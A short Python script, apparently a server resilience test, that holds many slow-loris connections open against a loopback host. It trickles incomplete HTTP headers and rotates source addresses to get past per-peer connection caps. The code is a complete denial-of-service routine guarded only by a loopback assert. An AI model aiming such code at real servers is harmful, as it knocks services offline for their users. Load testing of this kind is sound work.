"""Holds N connections to a server that never finish their request headers (the slow-loris
pattern), spread over several loopback source addresses so a per-peer cap does not refuse them
all. Each connection trickles a header line every few seconds; one the server closes is opened
again, so N stay held. Runs until killed. Only ever connects to loopback."""
import asyncio
import ipaddress
import resource
import sys

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
assert ipaddress.ip_address(host).is_loopback, "loopback targets only"
per_source = int(sys.argv[4]) if len(sys.argv) > 4 else 250
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 1024)), hard))
held = 0


async def one(source):
    global held
    while True:
        try:
            r, w = await asyncio.open_connection(host, port, local_addr=(source, 0))
            w.write(b"GET /health HTTP/1.1\r\nHost: x\r\n")
            await w.drain()
            held += 1
            try:
                while True:
                    await asyncio.sleep(5)
                    w.write(b"X-Slow: 1\r\n")
                    await w.drain()
            finally:
                held -= 1
                w.close()
        except (ConnectionError, OSError):
            await asyncio.sleep(0.5)


async def main():
    sources = [f"127.0.0.{2 + i // per_source}" for i in range(n)]
    tasks = [asyncio.create_task(one(s)) for s in sources]
    while True:
        await asyncio.sleep(2)
        print(f"held {held}", flush=True)


asyncio.run(main())
